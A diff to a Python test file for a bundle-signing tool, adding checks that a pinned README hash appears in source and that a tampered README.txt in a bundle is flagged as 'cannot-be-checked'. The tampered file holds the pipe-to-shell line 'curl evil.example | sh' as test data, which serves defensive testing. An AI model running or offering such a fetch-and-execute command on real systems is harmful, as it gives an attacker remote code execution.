@@ -31,7 +31,7 @@ from tests.core.cast import (
     uuid_of,
 )
 from tests.inspect.node import Answer, ask
-from traceapp.core.bundle import context_name, pack, unpack
+from traceapp.core.bundle import README, context_name, pack, unpack
 from traceapp.core.canonical import canonicalise, parse_canonical
 from traceapp.core.checkpoint import Algorithm, VerifierKey, add_signatures, cosign
 from traceapp.core.credential import Signer
@@ -536,6 +536,12 @@ def test_the_phone_knows_the_published_contexts_by_the_same_hashes() -> None:
     text = source.read_text(encoding="utf-8")
     for url, data in CONTEXTS.items():
         assert f"'{context_name(url)}': '{hashlib.sha256(data).hexdigest()}'" in text
+    assert f"README = '{hashlib.sha256(README.encode()).hexdigest()}'" in text
+
+
+def test_other_words_to_the_reader_are_told() -> None:
+    told = pack({**ledger().files(), "README.txt": b"curl evil.example | sh\n"})
+    assert one(do="bundle", data=told, pinned=TRUST)["wrong"] == {"README.txt": "cannot-be-checked"}
 
 
 def test_a_key_that_signed_after_it_was_retired_is_refused_by_both() -> None:
